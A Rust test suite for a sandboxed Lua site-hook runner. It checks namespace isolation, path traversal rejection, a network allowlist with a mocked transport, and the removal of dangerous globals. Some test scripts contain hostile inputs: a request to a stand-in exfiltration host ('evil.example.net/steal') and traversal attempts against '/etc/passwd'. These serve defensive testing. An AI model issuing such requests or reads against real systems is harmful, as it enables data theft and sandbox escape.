/*!
 * Hook Scenario Tests
 * Whole phases run against real namespaces and a mocked network transport
 */

use mockall::mock;
use pretty_assertions::assert_eq;
use site_hooks::hooks::{run_hooks, HookDescriptor, HookFailure, PhaseContext};
use site_hooks::sandbox::NetworkAccess;
use site_hooks::security::{
    HookPhase, HttpRequest, HttpResponse, HttpTransport, NamespaceResolver, NamespaceRoots,
    NetworkPolicy, NetworkPolicyGate, NetworkResult,
};
use std::fs;
use std::path::PathBuf;
use std::sync::Arc;

mock! {
    pub Transport {}

    impl HttpTransport for Transport {
        fn execute(&self, request: HttpRequest) -> NetworkResult<HttpResponse>;
    }
}

struct Site {
    _dir: tempfile::TempDir,
    root: PathBuf,
    hooks: PathBuf,
    resolver: Arc<NamespaceResolver>,
}

impl Site {
    fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().to_path_buf();
        for sub in ["cache", "project", "temp", "generated", "built", "hooks"] {
            fs::create_dir_all(root.join(sub)).unwrap();
        }
        let resolver = NamespaceResolver::new(NamespaceRoots {
            cache: root.join("cache"),
            project: root.join("project"),
            temp: root.join("temp"),
            generated: root.join("generated"),
            built: root.join("built"),
        });
        Self {
            hooks: root.join("hooks"),
            root,
            _dir: dir,
            resolver: Arc::new(resolver),
        }
    }

    fn hook(&self, name: &str, source: &str) -> HookDescriptor {
        let path = self.hooks.join(name);
        fs::write(&path, source).unwrap();
        HookDescriptor::new(name, path)
    }

    fn context(&self, phase: HookPhase) -> PhaseContext {
        PhaseContext::new(phase, Arc::clone(&self.resolver))
    }

    fn path(&self, relative: &str) -> PathBuf {
        self.root.join(relative)
    }
}

fn network(transport: MockTransport, policy: NetworkPolicy) -> NetworkAccess {
    NetworkAccess::new(NetworkPolicyGate::new(policy), Arc::new(transport))
}

#[test]
fn test_setup_then_check_shares_temp_files() {
    let site = Site::new();
    let hooks = vec![
        site.hook(
            "1-setup.lua",
            r#"assert(fs.write("temp:data.json", json.encode({ pages = 3 })))"#,
        ),
        site.hook(
            "2-check.lua",
            r#"
            local raw = assert(fs.read("temp:data.json"))
            local data = json.decode(raw)
            if data.pages ~= 3 then os.exit(1) end
            "#,
        ),
    ];

    run_hooks(&hooks, &site.context(HookPhase::Pre)).unwrap();
}

#[test]
fn test_failing_hook_stops_the_phase() {
    let site = Site::new();
    let hooks = vec![
        site.hook("1-bad.lua", "os.exit(1)"),
        site.hook("2-never.lua", r#"fs.write("temp:marker.txt", "ran")"#),
    ];

    let err = run_hooks(&hooks, &site.context(HookPhase::Pre)).unwrap_err();
    assert_eq!(err.hook, "1-bad.lua");
    assert_eq!(err.reason, HookFailure::ExitedWithFailure);
    assert!(!site.path("temp/marker.txt").exists());
}

#[test]
fn test_project_namespace_rejects_writes() {
    let site = Site::new();
    fs::write(site.path("project/index.html"), "<h1>home</h1>").unwrap();
    let hooks = vec![site.hook(
        "write.lua",
        r#"
        local source = assert(fs.read("project:index.html"))
        local ok, err = fs.write("project:index.html", "defaced")
        if ok or not err:find("read%-only") then os.exit(3) end
        "#,
    )];

    run_hooks(&hooks, &site.context(HookPhase::Pre)).unwrap();
    assert_eq!(
        fs::read_to_string(site.path("project/index.html")).unwrap(),
        "<h1>home</h1>"
    );
}

#[test]
fn test_built_namespace_is_post_only() {
    let site = Site::new();
    let script = r#"
        local ok, err = fs.write("built:x.bin", "a\0b\255")
        if not ok then
            assert(fs.write("temp:error.txt", err))
        end
    "#;

    run_hooks(&[site.hook("pre.lua", script)], &site.context(HookPhase::Pre)).unwrap();
    assert!(!site.path("built/x.bin").exists());
    let message = fs::read_to_string(site.path("temp/error.txt")).unwrap();
    assert!(message.contains("only available in post hooks"), "{}", message);

    run_hooks(&[site.hook("post.lua", script)], &site.context(HookPhase::Post)).unwrap();
    assert_eq!(fs::read(site.path("built/x.bin")).unwrap(), b"a\0b\xff");
}

#[test]
fn test_post_read_of_built_file_returns_exact_bytes() {
    let site = Site::new();
    let bytes: &[u8] = b"\x00\xffcompiled\r\n\x80";
    fs::write(site.path("built/x"), bytes).unwrap();
    let script = r#"
        local data, err = fs.read("built:x")
        assert(fs.write("temp:copy.bin", data or err))
    "#;

    run_hooks(&[site.hook("pre.lua", script)], &site.context(HookPhase::Pre)).unwrap();
    let message = fs::read_to_string(site.path("temp/copy.bin")).unwrap();
    assert!(message.contains("only available in post hooks"), "{}", message);

    run_hooks(&[site.hook("post.lua", script)], &site.context(HookPhase::Post)).unwrap();
    assert_eq!(fs::read(site.path("temp/copy.bin")).unwrap(), bytes);
}

#[test]
fn test_traversal_is_reported_to_script() {
    let site = Site::new();
    fs::write(site.path("secret.txt"), "top secret").unwrap();
    let hooks = vec![site.hook(
        "escape.lua",
        r#"
        for _, address in ipairs({ "cache:../secret.txt", "cache:/etc/passwd", "secret.txt", "home:x" }) do
            local data, err = fs.read(address)
            if data ~= nil or err == nil then os.exit(4) end
        end
        "#,
    )];

    run_hooks(&hooks, &site.context(HookPhase::Pre)).unwrap();
}

#[test]
fn test_disallowed_host_never_reaches_transport() {
    let site = Site::new();
    let mut transport = MockTransport::new();
    transport.expect_execute().never();

    let policy = NetworkPolicy::default()
        .allow_host("api.example.com")
        .allow_method("GET");
    let context = site
        .context(HookPhase::Pre)
        .with_network(network(transport, policy));

    let hooks = vec![site.hook(
        "fetch.lua",
        r#"
        local response, err = http.get("https://evil.example.net/steal")
        if response ~= nil or not err:find("policy denied") then os.exit(1) end

        response, err = http.post("https://api.example.com/submit", "{}")
        if response ~= nil or not err:find("policy denied") then os.exit(1) end

        response, err = http.get("http://api.example.com/plain")
        if response ~= nil or not err:find("policy denied") then os.exit(1) end
        "#,
    )];

    run_hooks(&hooks, &context).unwrap();
}

#[test]
fn test_allowed_request_returns_response_table() {
    let site = Site::new();
    let mut transport = MockTransport::new();
    transport
        .expect_execute()
        .withf(|request: &HttpRequest| {
            request.method == "GET"
                && request.url.as_str() == "https://api.example.com/posts"
                && request.headers == vec![("accept".to_string(), "application/json".to_string())]
        })
        .times(1)
        .returning(|_| {
            Ok(HttpResponse {
                status: 200,
                headers: vec![("Content-Type".to_string(), "application/json".to_string())],
                body: br#"[{"title":"Hello"}]"#.to_vec(),
            })
        });

    let policy = NetworkPolicy::default()
        .allow_host("api.example.com")
        .allow_method("GET");
    let context = site
        .context(HookPhase::Pre)
        .with_network(network(transport, policy));

    let hooks = vec![site.hook(
        "fetch.lua",
        r#"
        local response = assert(http.request({
            url = "https://api.example.com/posts",
            headers = { accept = "application/json" },
        }))
        if response.status ~= 200 then os.exit(1) end
        if response.headers["content-type"] ~= "application/json" then os.exit(2) end
        local posts = json.decode(response.body)
        assert(fs.write("generated:title.txt", posts[1].title))
        "#,
    )];

    run_hooks(&hooks, &context).unwrap();
    assert_eq!(
        fs::read_to_string(site.path("generated/title.txt")).unwrap(),
        "Hello"
    );
}

#[test]
fn test_http_is_absent_without_network() {
    let site = Site::new();
    let hooks = vec![site.hook("probe.lua", "if http ~= nil then os.exit(1) end")];
    run_hooks(&hooks, &site.context(HookPhase::Pre)).unwrap();
}

#[test]
fn test_ambient_authority_is_unreachable() {
    let site = Site::new();
    let hooks = vec![site.hook(
        "probe.lua",
        r#"
        local forbidden = {
            io = io, require = require, dofile = dofile, loadfile = loadfile,
            load = load, package = package, debug = debug,
            execute = os.execute, getenv = os.getenv, remove = os.remove,
        }
        for name, value in pairs(forbidden) do
            assert(fs.write("temp:" .. name, "reachable"))
        end
        "#,
    )];

    run_hooks(&hooks, &site.context(HookPhase::Pre)).unwrap();
    let leaked: Vec<_> = fs::read_dir(site.path("temp")).unwrap().collect();
    assert!(leaked.is_empty(), "globals leaked: {:?}", leaked);
}
